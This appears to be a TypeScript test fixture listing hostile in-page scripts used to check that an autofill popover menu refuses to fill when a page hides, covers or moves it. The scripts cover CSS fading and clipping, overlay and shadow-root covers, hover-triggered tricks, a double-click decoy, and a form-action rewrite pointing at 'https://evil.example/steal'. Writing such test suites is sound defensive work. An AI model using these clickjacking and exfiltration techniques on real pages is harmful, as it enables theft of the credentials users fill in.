/**
 * What hostile pages do once the menu is open. Each function runs in the page and stands alone.
 * `covers`: the page changes the picture; a fill is a failure unless every pixel of the menu is as before.
 * `never`: whatever is seen, nothing may be filled.
 */
export interface Attack {
  readonly name: string
  readonly kind: 'covers' | 'never'
  readonly run: () => unknown
  /** The page that it runs in, by default the plain one; see the gallery's site. */
  readonly page?: GalleryPath
  /** In a page with a frame: which of both the script is in. */
  readonly in?: 'top' | 'frame'
  /** What the person does, by default a click on the first row. */
  readonly click?: 'row' | 'enter' | 'decoy twice'
}
export type GalleryPath = '/' | '/dialog' | '/nested' | '/strict'
type Extras = Pick<Attack, 'page' | 'in' | 'click'>

export const covers = (name: string, run: Attack['run'], extras: Extras = {}): Attack => ({
  name,
  kind: 'covers',
  run,
  ...extras,
})
export const never = (name: string, run: Attack['run'], extras: Extras = {}): Attack => ({
  name,
  kind: 'never',
  run,
  ...extras,
})

/** One of each kind; `moreAttacks.ts` has their variants. */
export const ATTACKS: readonly Attack[] = [
  covers('fades, cuts and bends the host', () => {
    const host = document.querySelector<HTMLElement>('[popover=manual]')
    for (const [property, value] of Object.entries({
      opacity: '0',
      filter: 'opacity(0)',
      'clip-path': 'inset(50%)',
      transform: 'scale(.01)',
      visibility: 'hidden',
      mask: 'linear-gradient(transparent, transparent)',
    })) {
      host?.style.setProperty(property, value, 'important')
    }
  }),
  covers('writes rules for every popover', () => {
    const style = document.createElement('style')
    style.textContent =
      '@layer x { [popover] { opacity: 0 !important; translate: -500px !important } }'
    document.head.append(style)
  }),
  covers('takes the host out of the top layer', () => {
    document.querySelector('[popover=manual]')?.removeAttribute('popover')
  }),
  covers('filters the root', () => {
    document.documentElement.style.filter = 'opacity(0.01)'
  }),
  covers('clips the root', () => {
    document.documentElement.style.clipPath = 'inset(0 0 95% 0)'
  }),
  covers('spills the shadow of one pixel', () => {
    const cover = document.createElement('div')
    cover.popover = 'manual'
    cover.style.cssText =
      'position:fixed;inset:auto;left:0;top:0;width:1px;height:1px;padding:0;margin:0;border:0;box-shadow:0 0 0 3000px white;pointer-events:none'
    document.body.append(cover)
    cover.showPopover()
  }),
  covers('hides the cover in a closed shadow root', () => {
    const outer = document.createElement('div')
    document.body.append(outer)
    const cover = document.createElement('div')
    outer.attachShadow({ mode: 'closed' }).append(cover)
    cover.popover = 'manual'
    cover.style.cssText =
      'position:fixed;inset:0;width:100vw;height:100vh;margin:0;border:0;background:white;pointer-events:none'
    cover.showPopover()
  }),
  covers('covers all with a view transition', () => {
    const style = document.createElement('style')
    style.textContent =
      '::view-transition { background: white; pointer-events: none } ::view-transition-group(root) { animation-duration: 60s }'
    document.head.append(style)
    const page = document as { startViewTransition?: (change: () => void) => void }
    page.startViewTransition?.(() => undefined)
  }),
  never('moves the host without taking it out', () => {
    const box = document.createElement('div')
    document.body.append(box)
    const host = document.querySelector('[popover=manual]')
    if (!host) return
    if ('moveBefore' in Element.prototype) box.moveBefore(host, null)
    else box.append(host)
  }),
  never('covers the menu and uncovers it when the pointer comes', async () => {
    const cover = document.createElement('div')
    cover.popover = 'manual'
    cover.style.cssText =
      'position:fixed;inset:0;width:100vw;height:100vh;margin:0;border:0;background:white;pointer-events:none'
    document.body.append(cover)
    cover.showPopover()
    await new Promise((resolve) => setTimeout(resolve, 400))
    document.addEventListener('mouseover', () => {
      cover.remove()
    })
  }),
  never('fades and shows the root in turn', () => {
    let isFaded = false
    setInterval(() => {
      document.documentElement.style.opacity = (isFaded = !isFaded) ? '0.01' : ''
    }, 120)
  }),
  never('puts another field in the place of the first', () => {
    const field = document.querySelector('#code')
    field?.replaceWith(field.cloneNode())
  }),
  never('keeps itself busy while a cover lies there', async () => {
    const cover = document.createElement('div')
    cover.popover = 'manual'
    cover.style.cssText =
      'position:fixed;inset:0;width:100vw;height:100vh;margin:0;border:0;background:white;pointer-events:none'
    document.body.append(cover)
    cover.showPopover()
    await new Promise((resolve) => requestAnimationFrame(() => requestAnimationFrame(resolve)))
    setTimeout(() => {
      const end = performance.now() + 1500
      while (performance.now() < end);
      cover.remove()
    })
  }),
  never('covers the menu for the drawing only', async () => {
    const cover = document.createElement('div')
    cover.popover = 'manual'
    cover.style.cssText =
      'position:fixed;inset:0;width:100vw;height:100vh;margin:0;border:0;background:white;pointer-events:none'
    document.body.append(cover)
    const afterDrawing = new MessageChannel()
    afterDrawing.port1.onmessage = () => {
      cover.hidePopover()
      requestAnimationFrame(draw)
    }
    function draw() {
      cover.showPopover()
      afterDrawing.port2.postMessage('')
    }
    draw()
    await new Promise((resolve) => setTimeout(resolve, 400))
  }),
  never('sends the form to somebody else', () => {
    const form = document.querySelector('form')
    if (form) form.action = 'https://evil.example/steal'
  }),
  never('hides the field', () => {
    const field = document.querySelector<HTMLElement>('#code')
    if (field) field.style.opacity = '0.01'
  }),
  never('clicks by script', () => {
    const host = document.querySelector<HTMLElement>('[popover=manual]')
    for (const type of [
      'pointermove',
      'pointerdown',
      'mousedown',
      'pointerup',
      'mouseup',
      'click',
    ]) {
      host?.dispatchEvent(
        new MouseEvent(type, { bubbles: true, composed: true, clientX: 200, clientY: 200 }),
      )
    }
    host?.remove()
  }),
  covers('paints pseudo-elements of the host', () => {
    const style = document.createElement('style')
    style.textContent =
      '[popover]::before, [popover]::after { content: "" !important; display: block !important; position: fixed !important; inset: 0 !important; background: white !important; z-index: 2147483647 !important; pointer-events: none !important }'
    document.head.append(style)
  }),
  covers('fills the screen with another element', async () => {
    const cover = document.createElement('div')
    cover.style.cssText = 'background:white;pointer-events:none'
    document.body.append(cover)
    await cover.requestFullscreen().catch(() => undefined)
  }),
  never('covers when the pointer comes', () => {
    document.addEventListener('mouseover', (event) => {
      if (!(event.target instanceof HTMLElement) || !event.target.popover) return
      const cover = document.createElement('div')
      cover.popover = 'manual'
      cover.style.cssText =
        'position:fixed;inset:0;width:100vw;height:100vh;margin:0;border:0;background:white;pointer-events:none'
      document.body.append(cover)
      cover.showPopover()
    })
  }),
  covers(
    'hides what the dialog contains',
    () => {
      document.querySelector('dialog')?.style.setProperty('content-visibility', 'hidden')
    },
    { page: '/dialog' },
  ),
  covers(
    'covers the frame around',
    () => {
      const cover = document.createElement('div')
      cover.style.cssText =
        'position:fixed;inset:0;background:white;z-index:2147483647;pointer-events:none'
      document.body.append(cover)
    },
    { page: '/nested' },
  ),
  never('takes the host away when the pointer comes', () => {
    document.addEventListener(
      'mouseover',
      (event) => {
        if (event.target instanceof HTMLElement && event.target.popover) event.target.remove()
      },
      true,
    )
  }),
  never(
    'moves the menu under the second click of two',
    () => {
      const decoy = document.querySelector<HTMLElement>('#decoy')
      if (!decoy) return
      decoy.style.cssText = 'position:fixed;left:700px;top:300px'
      decoy.addEventListener('pointerdown', ({ clientX, clientY }) => {
        const field = document.querySelector<HTMLElement>('#code')
        if (!field) return
        field.style.cssText = `position:fixed;left:${clientX - 160}px;top:${clientY - 124}px`
        scrollBy(0, 1)
      })
    },
    { click: 'decoy twice' },
  ),
]
